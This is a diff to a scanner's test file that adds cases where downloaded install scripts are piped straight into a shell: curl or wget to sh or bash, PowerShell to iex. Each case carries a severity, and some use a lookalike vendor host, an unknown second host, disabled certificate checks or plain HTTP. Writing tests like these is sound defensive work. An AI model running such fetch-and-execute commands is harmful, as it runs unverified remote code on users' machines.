@@ -88,6 +88,58 @@ CASES = {
         "i.sh", FETCHED.format(header='-H "Authorization: bearer $T" '),
         "shell-download-run", "medium",
     ),
+    "an installer, as its vendor has it": (
+        "i.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh\n",
+        "shell-pipe-to-shell", "medium",
+    ),
+    "the same in an image, of a tag": (
+        "Dockerfile",
+        "FROM a:1\nENV NVM_VERSION=0.40.3\nRUN curl -o- "
+        "https://raw.githubusercontent.com/nvm-sh/nvm/v${NVM_VERSION}/install.sh | bash\n",
+        "shell-pipe-to-shell", "medium",
+    ),
+    "the same in PowerShell": (
+        "i.ps1", "(iwr -Uri https://install.python-poetry.org -UseBasicParsing).Content | iex\n",
+        "shell-pipe-to-shell", "medium",
+    ),
+    "the same, put into a command": (
+        "i.sh", 'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/'
+        'tools/install.sh)" "" --unattended\n', "shell-pipe-to-shell", "medium",
+    ),
+    "a fixed version of a stranger's": (
+        "i.sh", "curl -L https://github.com/a/b/releases/download/v1.2.3/i.sh | sh\n",
+        "shell-pipe-to-shell", "medium",
+    ),
+    "the newest of a stranger's": (
+        "i.sh", "curl -L https://github.com/a/b/releases/latest/download/i.sh | sh\n",
+        "shell-pipe-to-shell", "high",
+    ),
+    "an installer without the certificate": (
+        "i.sh", "curl -LsSfk https://astral.sh/uv/install.sh | sh\n",
+        "shell-pipe-to-shell", "high",
+    ),
+    "an installer over plain HTTP": (
+        "i.sh", "curl -L http://astral.sh/uv/install.sh | sh\n", "shell-pipe-to-shell", "high",
+    ),
+    "a host that begins as a vendor's": (
+        "i.sh", "curl -L https://astral.sh.shop.net/install.sh | sh\n",
+        "shell-pipe-to-shell", "high",
+    ),
+    "a vendor's beside another": (
+        "i.sh", "curl -L https://astral.sh/uv/install.sh https://a.net/i | sh\n",
+        "shell-pipe-to-shell", "high",
+    ),
+    "an address in a variable": (
+        "i.sh", "curl -LsSf $URL | sh\n", "shell-pipe-to-shell", "high",
+    ),
+    "a page of anybody's on a vendor's host": (
+        "i.sh", "curl -L https://huggingface.co/a/b/resolve/main/i.sh | sh\n",
+        "shell-pipe-to-shell", "high",
+    ),
+    "a file of a vendor's": (
+        "i.sh", "wget https://bootstrap.pypa.io/get-pip.py\npython3 get-pip.py\n",
+        "shell-download-run", "medium",
+    ),
     "dashboards for anybody": (
         "compose.yaml", GRAFANA.format("GF_AUTH_ANONYMOUS_ENABLED: 'true'"),
         "env-dashboards-open", "medium",
